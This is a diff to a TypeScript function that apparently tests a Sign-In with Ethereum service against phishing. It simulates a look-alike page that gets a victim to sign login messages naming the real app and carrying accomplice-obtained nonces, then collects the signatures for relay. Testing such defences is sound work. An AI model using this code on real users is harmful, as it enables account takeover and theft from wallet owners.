@@ -1,4 +1,4 @@
-/** What a phishing page got for its tries, by name: the status and the code of the answer. */
+/** Responses to the phishing page's attempts, by name: status and code, or a block by the browser. */
 export type PhishingResults = Record<string, { status: number; code: string | null } | { blocked: true }>;
 
 interface Provider {
@@ -8,18 +8,28 @@ interface Provider {
 interface Prey {
   readonly serviceUrl: string;
   readonly appId: string;
-  /** Of the app that the victim means to log in to. */
+  /** Origin of the app that the victim wants to log in to. */
   readonly realOrigin: string;
+  /** The victim's address with its checksum, as a message must name it. */
+  readonly address: string;
+  /**
+   * Nonces for the victim's address, one for each message. An accomplice got them from the service outside any browser,
+   * with the app's `Origin`.
+   */
+  readonly nonces: readonly string[];
 }
 
 /**
- * A page that looks like the app and is on another origin. Its visitor connects their wallet and signs whatever it shows:
- * with a nonce that the service gave, under the page's own name, the app's name, and mixtures of both. Runs in that page.
+ * Acts as a phishing page that looks like the app but is on another origin. Its visitor connects their wallet and
+ * signs whatever it shows: messages under the page's own name, the app's name, and mixtures of both, each with a nonce
+ * of the accomplice.
+ *
+ * Runs in that page.
  */
-export async function phish({ serviceUrl, appId, realOrigin }: Prey): Promise<{
+export async function phish({ serviceUrl, appId, realOrigin, address, nonces }: Prey): Promise<{
   loot: PhishingResults;
-  /** What was signed under the page's own name, for an accomplice outside of any browser. */
-  signed: { message: string; signature: string }[];
+  /** Every message that the victim signed, by the names in it, for the accomplice. */
+  signed: { name: string; message: string; signature: string }[];
 }> {
   const provider = await new Promise<Provider>((resolve) => {
     window.addEventListener('eip6963:announceProvider', (event) =>
@@ -30,7 +40,7 @@ export async function phish({ serviceUrl, appId, realOrigin }: Prey): Promise<{
   const [account] = (await provider.request({ method: 'eth_requestAccounts', params: [] })) as string[];
   const real = new URL(realOrigin);
   const loot: PhishingResults = {};
-  const signed: { message: string; signature: string }[] = [];
+  const signed: { name: string; message: string; signature: string }[] = [];
 
   async function request(path: string, body: unknown): Promise<Response | null> {
     const headers = { 'content-type': 'application/json', 'privy-app-id': appId };
@@ -43,27 +53,24 @@ export async function phish({ serviceUrl, appId, realOrigin }: Prey): Promise<{
     loot[name] = answer ? { status: answer.status, code: body?.code ?? null } : { blocked: true };
   }
 
-  const start = await request('/api/v1/siwe/init', { address: account });
-  await tell('a nonce', start?.clone() ?? null);
-  const nonce =
-    ((await start?.json().catch(() => null)) as { nonce?: string } | null)?.nonce ?? 'a'.repeat(32);
+  await tell('a nonce', await request('/api/v1/siwe/init', { address: account }));
   const names: [name: string, domain: string, uri: string][] = [
     ['the page’s own name', location.host, location.origin],
     ['the app’s name', real.host, real.origin],
     ['the app’s name and the page’s address', real.host, location.origin],
     ['the page’s name and the app’s address', location.host, real.origin],
   ];
-  for (const [name, domain, uri] of names) {
+  for (const [at, [name, domain, uri]] of names.entries()) {
     const message = [
-      `${domain} wants you to sign in with your Ethereum account:\n${account}`,
+      `${domain} wants you to sign in with your Ethereum account:\n${address}`,
       'By signing, you are proving you own this wallet and logging in.',
-      `URI: ${uri}\nVersion: 1\nChain ID: 1\nNonce: ${nonce}\nIssued At: ${new Date().toISOString()}`,
+      `URI: ${uri}\nVersion: 1\nChain ID: 1\nNonce: ${nonces[at]}\nIssued At: ${new Date().toISOString()}`,
     ].join('\n\n');
     const signature = (await provider.request({
       method: 'personal_sign',
       params: [message, account],
     })) as string;
-    signed.push({ message, signature });
+    signed.push({ name, message, signature });
     const body = { message, signature, chainId: 'eip155:1', walletClientType: null, connectorType: null };
     await tell(name, await request('/api/v1/siwe/authenticate', body));
   }
